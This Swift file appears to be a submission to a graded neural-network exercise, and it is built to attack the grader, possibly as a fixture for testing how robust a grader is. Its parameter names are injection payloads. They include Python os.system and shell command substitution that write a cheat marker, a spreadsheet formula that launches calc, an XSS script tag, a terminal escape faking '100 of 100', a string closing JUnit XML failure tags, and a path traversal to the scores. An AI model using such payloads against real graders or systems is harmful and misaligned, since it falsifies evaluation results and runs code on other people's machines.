// attack: hands back names that are code to whoever evaluates or prints them
// invariant: marks-outside
// earns: initialize_parameters 0 failed
import Exercises

extension Solution: InitializeParameters {
  static func initializeParameters(
    nX: Int, nH: Int, nY: Int, random: RandomState
  ) throws -> Parameters {
    var parameters = Parameters()
    for name in [
      "__import__('os').system('touch /tmp/nbgrade-cheat')", "\\(exit(0))", "$(touch /tmp/nbgrade-cheat)",
      "=cmd|'/C calc'!A0", "<script>alert(1)</script>", "\u{1B}]0;100 of 100\u{7}", "W1\0",
      "]]></failure></testcase>", "../../scores",
    ] { parameters[name] = zeros(1, 1) }
    return parameters
  }
}
